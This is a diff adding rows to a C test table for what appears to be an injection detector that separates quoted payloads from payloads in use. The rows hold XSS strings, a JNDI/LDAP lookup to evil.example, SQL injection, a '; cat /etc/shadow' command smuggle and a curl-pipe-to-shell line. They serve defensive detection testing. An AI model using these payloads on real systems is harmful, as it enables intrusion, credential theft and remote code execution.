@@ -86,6 +86,16 @@ static const struct row {
         {CITED, GB_CLASS_XSS,
                 "document.getElementById('a').innerHTML = '<b>' + name + '</b>'; works, but how can I do that without "
                 "it?"},
+        {CITED, GB_CLASS_XSS,
+                "198.51.100.7 - - [12/Jan/2024:10:00:01 +0100] \"GET /?a=<script>alert(1)</script> HTTP/1.1\" 403 18"},
+        {CITED, GB_CLASS_NAMING_LOOKUP,
+                "198.51.100.7 - - [12/Jan/2024:10:00:01 +0100] \"GET / HTTP/1.1\" 200 18 \"-\" "
+                "\"${jndi:ldap://evil.example/a}\""},
+        {CITED, GB_CLASS_XSS, "Top queries of our users: lamp, sofa, <script>alert(1)</script>, table and chair."},
+        {CITED, GB_CLASS_XSS,
+                "The visitor wrote: \"there is <img src=x onerror=alert(1)> below my comment on this page\""},
+        {CITED, GB_CLASS_XSS,
+                "level=warn msg=\"blocked\" rule=12 uri=\"/a?b=<script>alert(1)</script>\" client=203.0.113.3"},
         /* In use: nothing around, a comment around, or the talk of something else. */
         {ATTACK, GB_CLASS_SQL_INJECTION, "' OR 1=1 -- "},
         {ATTACK, GB_CLASS_SQL_INJECTION, "\"' OR 1=1 -- \""},
@@ -110,6 +120,8 @@ static const struct row {
         {ATTACK, GB_CLASS_NAMING_LOOKUP,
                 "We found your house with `${jndi:ldap://evil.example/a}` in the evening, thank you for all."},
         {ATTACK, GB_CLASS_NAMING_LOOKUP, "Hello, I lost my password ${jndi:ldap://evil.example/a} please help me."},
+        {ATTACK, GB_CLASS_XSS, "x classid=\"y\"></object> <object classid=\"z\" onerror=\"alert(1)\" a=b rule=c>"},
+        {ATTACK, GB_CLASS_COMMAND_INJECTION, "the name of my file; cat /etc/shadow"},
         /* Appended to what somebody wrote of software. */
         {ATTACK, GB_CLASS_SQL_INJECTION, "The new query is quick' OR 1=1 -- "},
         {ATTACK, GB_CLASS_COMMAND_INJECTION, "Fix the readme and bump the version; $(curl http://evil.example/a | sh)"},
